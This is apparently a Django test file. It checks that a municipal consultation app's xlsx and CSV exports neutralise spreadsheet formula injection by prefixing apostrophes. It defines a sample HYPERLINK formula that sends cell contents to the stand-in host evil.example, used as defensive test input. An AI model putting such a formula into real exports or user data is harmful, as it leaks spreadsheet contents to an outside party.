"""Exports are inert (OWASP CSV injection): text that starts with = + - @ tab or CR is written as text.

Checked in the files a person would open (the xlsx XML and the CSV text), through the real export routes.
"""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from tsunagu.core.spreadsheet import inert
from tsunagu.core.wareki import fiscal_year_of
from tsunagu.directory.models import Agency
from tsunagu.evaluation.models import KpiDefinition
from tsunagu.meetings import governance

from .conftest import agency_named
from .intake_fixtures import record

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_gets_an_apostrophe(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["高橋 一郎", "1-2-3", "", 5, -3, 2.5, None])
def test_other_values_are_unchanged(value):
    assert inert(value) == value


def _formulas(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [m for name in z.namelist() if name.startswith("xl/worksheets/")
                for m in re.findall(r"<f>.*?</f>", z.read(name).decode())]


def _text_cells(xlsx: bytes) -> dict[str, str]:
    wb = load_workbook(io.BytesIO(xlsx))
    return {c.value: c.data_type for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_a_name_written_as_a_formula_stays_text_in_the_consultation_sheet(client, intake_a):
    consultation = record(intake_a, name=ATTACK)
    client.force_login(intake_a)
    response = client.get(f"/intake/{consultation.pk}/export.xlsx")
    assert response.status_code == 200
    assert _formulas(response.content) == []
    cells = _text_cells(response.content)
    assert cells[ATTACK] == "s"


def test_roster_export_is_inert(client, manager, imizu, intake_a):
    fy = fiscal_year_of(timezone.localdate())
    governance.add_roster_entry(manager, fiscal_year=fy, agency=agency_named(imizu, "地域福祉課"),
                                duty="-相談支援", staff_name="@SUM(1+1)", note="+81 766")
    client.force_login(intake_a)
    response = client.get(f"/governance/roster/export.xlsx?fy={fy}")
    assert response.status_code == 200 and _formulas(response.content) == []
    cells = _text_cells(response.content)
    assert {cells["@SUM(1+1)"], cells["-相談支援"], cells["+81 766"]} == {"s"}


def test_csv_tables_are_inert(client, manager, intake_a, imizu):
    record(intake_a)
    Agency.objects.filter(pk=intake_a.agency_id).update(name="=1+1")
    KpiDefinition.objects.filter(municipality=imizu).update(name="-2+3")
    client.force_login(manager)
    fy = fiscal_year_of(timezone.localdate())
    by_agency = client.get(f"/evaluation/tables/by_agency.csv?fy={fy}").content.decode("utf-8-sig")
    assert ["'=1+1"] == [row[1] for row in csv.reader(io.StringIO(by_agency)) if "=1+1" in row[1]]
    kpis = client.get(f"/evaluation/tables/kpis.csv?fy={fy}").content.decode("utf-8-sig")
    names = {row[3] for row in list(csv.reader(io.StringIO(kpis)))[1:]}
    assert names == {"'-2+3"}


def test_the_kpi_report_xlsx_is_inert(client, manager, imizu):
    KpiDefinition.objects.filter(municipality=imizu).update(name="@cmd")
    client.force_login(manager)
    fy = fiscal_year_of(timezone.localdate())
    response = client.get(f"/evaluation/report.xlsx?fy={fy}")
    assert response.status_code == 200 and _formulas(response.content) == []
    assert _text_cells(response.content)["@cmd"] == "s"


def test_every_exporter_writes_through_the_one_module():
    """No spreadsheet cell or CSV row is written anywhere but through tsunagu/core/spreadsheet.py."""
    root = Path(__file__).resolve().parents[1] / "tsunagu"
    direct = re.compile(r"csv\.writer\(|\.cell\(row=|\bws\.append\(|\bws\[[^\]]+\]\s*=")
    offenders = [f"{p.relative_to(root)}:{n}" for p in root.rglob("*.py") if p.name != "spreadsheet.py"
                 for n, line in enumerate(p.read_text().splitlines(), 1) if direct.search(line)]
    assert offenders == []
